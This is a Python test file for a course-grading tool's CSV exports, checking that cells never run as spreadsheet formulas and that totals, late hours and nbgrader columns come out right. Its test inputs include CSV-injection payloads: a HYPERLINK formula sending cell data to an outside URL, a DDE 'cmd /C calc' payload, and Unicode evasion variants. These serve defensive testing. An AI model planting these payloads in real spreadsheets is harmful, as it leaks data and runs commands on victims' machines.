"""The tables: who gets what, and no formula in a cell."""

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sample_records import AVERAGE, SATURATED, missing, sample

from course_grading.results.tables import (
    NBGRADER_COLUMNS,
    cell,
    grades_table,
    nbgrader_table,
    plain,
)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


class TestCells:
    @pytest.mark.parametrize(
        "text",
        [
            '=HYPERLINK("http://example.org?x="&A1,"click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "  =1+1",
            "\u00a0=1+1",
            "\u3000=1+1",
            '"=1+1',
            "'=1+1",
            "＝1+1",
            "＋1",
            "－1+1",
            "＠SUM(1)",
            "−1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "\x00=1+1",
            "\x1b[31m=1+1",
        ],
    )
    def test_a_formula_becomes_text(self, text: str) -> None:
        written = cell(text)
        assert isinstance(written, str)
        assert written[0] in "'␀"
        assert "\n" not in written and "\r" not in written and "\t" not in written

    def test_a_formula_behind_a_semicolon_is_text_too(self) -> None:
        """Where ; stands between cells, a file with commas is cut at it."""
        assert cell('Ali;=1+1; "+2') == "Ali;'=1+1;' \"+2"

    @pytest.mark.parametrize("number", ["-1", "+2.5", "007", "12"])
    def test_numbers_stay_numbers(self, number: str) -> None:
        assert cell(number) == number
        assert cell(-1) == -1
        assert cell(None) is None

    def test_a_name_stays_readable_and_can_be_had_back(self) -> None:
        assert cell("-Ali") == "'-Ali"
        assert plain("'-Ali") == "-Ali"
        for name in ("'s-Hertogenbosch", "O'Neill; Pat", "'=x", "a;'=b"):
            assert plain(str(cell(name))) == name
        assert cell("'s-Hertogenbosch") == "'s-Hertogenbosch"

    def test_long_text_is_cut_and_surrogates_do_not_stop_it(self) -> None:
        written = str(cell("x" * 1_000_000))
        assert len(written) < 32_767 and written.endswith("(cut)")
        assert cell("a\ud800b") == "a\ufffdb"

    @given(st.text(st.characters(), max_size=40))
    def test_whatever_the_text_no_cell_runs(self, text: str) -> None:
        written = str(cell(text))
        written.encode("utf-8")
        first = written.lstrip('" ’‘“”`')[:1]
        assert first not in tuple("=@＝＋－＠") and not {"\n", "\r", "\t"} & set(written)
        if first in ("+", "-"):
            float(written)

    @pytest.mark.all
    @given(st.lists(st.from_regex(r"[=+@;,'\"A-Za-z0-9ş.-]{1,12}", fullmatch=True), unique=True))
    def test_ids_come_back(self, ids: list[str]) -> None:
        records = [sample(student, key=f"k{i}") for i, student in enumerate(ids)]
        for text in (grades_table(records), nbgrader_table(records)):
            assert [plain(row["student_id"]) for row in rows_of(text)] == ids


class TestTables:
    def test_an_unmarked_answer_leaves_its_cell_and_the_total_empty(self) -> None:
        [row] = rows_of(grades_table([sample(seconds_late=90.0)]))
        assert [row[name] for name in ("q1", "q2", "q3", "q4")] == ["40.0", "10.0", "", ""]
        assert row["automatic"] == "50.0" and row["automatic_max"] == "80.0"
        assert row["written"] == "" and row["written_max"] == "20.0" and row["to_mark"] == "2"
        assert row["total_so_far"] == "50.0" and row["total"] == "" and row["max"] == "100.0"
        assert row["hours_late"] == "0.03"

    def test_marked_and_unanswered_ones_make_a_total(self) -> None:
        written = (replace(AVERAGE, points=10.0), replace(SATURATED, text=" \n"))
        [row] = rows_of(grades_table([sample(written=written, seconds_late=0.0)]))
        assert [row["q3"], row["q4"]] == ["10.0", "0.0"]
        assert row["written"] == "10.0" and row["to_mark"] == "0"
        assert row["total"] == row["total_so_far"] == "60.0"
        assert row["hours_late"] == "0.0"

    def test_nobody_who_is_late_reads_0(self) -> None:
        [row] = rows_of(grades_table([sample(seconds_late=1.0)]))
        assert float(row["hours_late"]) > 0

    def test_the_columns_of_nbgrader(self) -> None:
        text = nbgrader_table(
            [
                sample(submitted_at="2026-11-20T23:59:10+03:00", name="Yılmaz, Ayşe"),
                missing("bora"),
                sample("can", submitted_at="yesterday"),
            ]
        )
        ayse, bora, can = rows_of(text)
        assert list(ayse) == list(NBGRADER_COLUMNS)
        assert ayse["timestamp"] == "2026-11-20 20:59:10"
        assert (ayse["last_name"], ayse["first_name"]) == ("Yılmaz", "Ayşe")
        assert ayse["score"] == ayse["raw_score"] == "50.0" and ayse["max_score"] == "100.0"
        assert (bora["timestamp"], bora["score"]) == ("", "0.0")
        assert can["timestamp"] == "yesterday" and can["last_name"] == "Ayşe Yılmaz"

    def test_the_columns_are_those_that_nbgrader_writes(self) -> None:
        try:
            from nbgrader.plugins import export
        except ImportError:
            pytest.skip("nbgrader is not installed")
        source = Path(export.__file__).read_text()
        written = source[source.index("keys = [") : source.index("fh.write")]
        assert [word for word in written.split('"') if word.isidentifier()] == [*NBGRADER_COLUMNS]


def test_nbgraders_names_mail_and_penalty_come_from_the_roster_and_the_policy():
    record = sample(first_name="Ayşe Nur", last_name="Yılmaz", email="a@b.org", late_penalty=10.0)
    late = sample("bora", name="Boz, Bora", late_penalty=70.0)
    rows = list(csv.DictReader(io.StringIO(nbgrader_table([record, late]))))
    assert (rows[0]["first_name"], rows[0]["last_name"]) == ("Ayşe Nur", "Yılmaz")
    assert rows[0]["email"] == "a@b.org"
    names = ("raw_score", "late_submission_penalty", "score")
    assert [rows[0][name] for name in names] == ["50.0", "10.0", "40.0"]
    assert [rows[1][name] for name in names] == ["50.0", "50.0", "0.0"]
    assert (rows[1]["first_name"], rows[1]["last_name"]) == ("Bora", "Boz")
